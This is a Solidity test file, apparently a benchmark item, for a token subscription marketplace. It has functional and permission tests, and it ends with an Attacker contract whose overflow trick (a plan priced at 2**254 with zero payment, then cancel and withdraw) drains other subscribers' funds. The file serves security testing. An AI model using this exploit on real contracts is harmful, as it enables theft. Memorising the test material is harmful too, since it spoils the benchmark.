// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./PlanSubscriptions.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-90469974-b2c8-4cee-92e8-69b9acf563c0

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private maker = msg.sender;

    function mint(address receiver, uint256 amount) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_800_000_000;

    Money public money;
    PlanSubscriptions private market;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Money();
        market = new PlanSubscriptions(money, 1_000);
        vm.startPrank(CAT);
        market.publishPlan(100e18, 3);
        market.publishPlan(10e18, 1);
        vm.stopPrank();
        fill(ANA);
        fill(BEN);
        vm.prank(ANA);
        market.subscribe(0, ANA, 36, 3_600e18);
        vm.prank(BEN);
        market.subscribe(0, BEN, 12, 1_200e18);
        mallory = new Attacker(market);
    }

    function fill(address account) private {
        money.mint(account, 5_000e18);
        vm.prank(account);
        money.approve(address(market), 5_000e18);
    }

    function test_Regular() public {
        vm.warp(START + 40 days);
        market.collect(0);
        require(market.creditOf(CAT) == 180e18 && market.earnedCommission() == 20e18, "two months");
        vm.startPrank(BEN);
        market.extendTerm(1, 2, 200e18);
        require(market.endOf(1) == START + 420 days && money.balanceOf(BEN) == 3_600e18, "extended");
        market.cancel(1);
        require(market.creditOf(BEN) == 1_200e18 && market.endOf(1) == START + 60 days, "cancelled");
        market.handOver(1, CAT);
        market.withdrawCredit(1_000e18);
        require(money.balanceOf(BEN) == 4_600e18 && market.creditOf(BEN) == 200e18, "withdrawn");
        vm.stopPrank();
        vm.warp(START + 60 days);
        market.vacate(1);
        market.collect(1);
        require(market.creditOf(CAT) == 360e18, "two more months");
        market.setCommissionRate(2_000);
        vm.startPrank(CAT);
        market.changeMonthlyPrice(0, 150e18);
        market.changeSeats(0, 2);
        market.setPlanOpen(1, false);
        market.passPlanOn(1, BEN);
        vm.stopPrank();
        vm.prank(ANA);
        uint256 number = market.subscribe(0, BEN, 2, 300e18);
        market.collect(number);
        require(market.creditOf(CAT) == 495e18 && market.earnedCommission() == 55e18, "old rate, new price");
        market.takeCommission(address(this));
        require(market.creditOf(address(this)) == 55e18 && market.earnedCommission() == 0, "commission");
        (address publisher, , , uint256 occupied, , bool open) = market.plans(1);
        require(publisher == BEN && occupied == 0 && !open, "passed on");
        require(market.numberOfPlans() == 2 && market.numberOfSubscriptions() == 3, "numbers");
        market.transferOwnership(ANA);
        vm.prank(ANA);
        market.renounceOwnership();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("The accounts need a token.");
        new PlanSubscriptions(IERC20(0), 0);
        vm.expectRevert("The commission rate is too high.");
        new PlanSubscriptions(money, 2_001);
    }

    function test_RefusesPublishers() public {
        vm.startPrank(CAT);
        vm.expectRevert("A plan needs seats.");
        market.publishPlan(1, 0);
        vm.expectRevert("A plan needs a price.");
        market.publishPlan(0, 1);
        vm.expectRevert("A plan needs a price.");
        market.changeMonthlyPrice(0, 0);
        vm.expectRevert("More seats are occupied.");
        market.changeSeats(0, 1);
        vm.expectRevert("A plan needs a publisher.");
        market.passPlanOn(0, address(0));
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("The caller is not the publisher.");
        market.changeMonthlyPrice(0, 1);
        vm.expectRevert("The caller is not the publisher.");
        market.changeSeats(0, 9);
        vm.expectRevert("The caller is not the publisher.");
        market.setPlanOpen(0, false);
        vm.expectRevert("The caller is not the publisher.");
        market.passPlanOn(0, ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        market.setCommissionRate(1);
        vm.expectRevert("Ownable: caller is not the owner");
        market.takeCommission(ANA);
        vm.expectRevert("The caller is not the subscriber.");
        market.extendTerm(1, 1, 100e18);
        vm.expectRevert("The caller is not the subscriber.");
        market.cancel(1);
        vm.expectRevert("The caller is not the subscriber.");
        market.handOver(1, ANA);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("The commission rate is too high.");
        market.setCommissionRate(2_001);
        vm.expectRevert("The commission needs a receiver.");
        market.takeCommission(address(0));
    }

    function test_RefusesSubscriptions() public {
        vm.startPrank(BEN);
        vm.expectRevert("A subscription needs a holder.");
        market.subscribe(0, address(0), 1, 100e18);
        vm.expectRevert("A term has at least one month.");
        market.subscribe(0, BEN, 0, 100e18);
        vm.expectRevert("The term is too long.");
        market.subscribe(0, BEN, 37, 3_700e18);
        vm.expectRevert("The payment is larger than the maximum.");
        market.subscribe(0, BEN, 1, 100e18 - 1);
        market.subscribe(1, BEN, 1, 10e18);
        vm.expectRevert("All seats are occupied.");
        market.subscribe(1, BEN, 1, 10e18);
        vm.stopPrank();
        vm.prank(CAT);
        market.setPlanOpen(0, false);
        vm.startPrank(BEN);
        vm.expectRevert("The plan is closed.");
        market.subscribe(0, BEN, 1, 100e18);
        vm.expectRevert("The plan is closed.");
        market.extendTerm(1, 1, 100e18);
        vm.stopPrank();
    }

    function test_RefusesSubscribers() public {
        vm.startPrank(BEN);
        vm.expectRevert("The credit is too small.");
        market.withdrawCredit(1);
        vm.expectRevert("A term has at least one month.");
        market.extendTerm(1, 0, 100e18);
        vm.expectRevert("The term is too long.");
        market.extendTerm(1, 25, 2_500e18);
        vm.expectRevert("The payment is larger than the maximum.");
        market.extendTerm(1, 1, 100e18 - 1);
        vm.expectRevert("A subscription needs a holder.");
        market.handOver(1, address(0));
        market.collect(1);
        vm.expectRevert("All months are collected.");
        market.collect(1);
        vm.warp(START + 360 days - 1);
        vm.expectRevert("All months have begun.");
        market.cancel(1);
        vm.expectRevert("The term is not over.");
        market.vacate(1);
        vm.warp(START + 360 days);
        vm.expectRevert("The term is over.");
        market.extendTerm(1, 1, 100e18);
        vm.expectRevert("The term is over.");
        market.cancel(1);
        vm.expectRevert("The term is over.");
        market.handOver(1, ANA);
        market.vacate(1);
        vm.expectRevert("The seat is free.");
        market.vacate(1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 4_800e18, "no gain");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PlanSubscriptions private market;

    constructor(PlanSubscriptions m) {
        market = m;
    }

    function run() external {
        uint256 plan = market.publishPlan(2**254, 1);
        uint256 number = market.subscribe(plan, address(this), 4, 0);
        market.cancel(number);
        market.withdrawCredit(4_800e18);
    }
}
